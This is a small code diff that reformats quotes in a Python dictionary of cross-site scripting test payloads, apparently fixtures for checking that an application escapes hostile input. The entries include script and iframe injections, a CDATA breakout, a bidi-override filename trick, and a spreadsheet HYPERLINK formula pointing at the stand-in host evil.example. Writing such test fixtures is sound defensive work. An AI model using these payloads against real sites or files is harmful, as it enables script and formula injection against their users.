@@ -13,8 +13,8 @@ XSS_PAYLOADS: dict[str, str] = {
     "entity-encoded tag": f"&lt;img src=x onerror=alert('{MARK}')&gt;",
     "cdata breakout": f"]]><script>{MARK}</script><![CDATA[",
     "template syntax": f"{{{{ {MARK} }}}} {{% debug %}}",
-    "csv formula": f"=HYPERLINK(\"http://evil.example/?{MARK}\",\"x\")",
+    "csv formula": f'=HYPERLINK("http://evil.example/?{MARK}","x")',
     "bidi override": f"\u202e{MARK}gpj.exe",
     "iframe srcdoc": f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
-    "style expression": f"<p style=\"background:url(javascript:{MARK})\">x</p>",
+    "style expression": f'<p style="background:url(javascript:{MARK})">x</p>',
 }
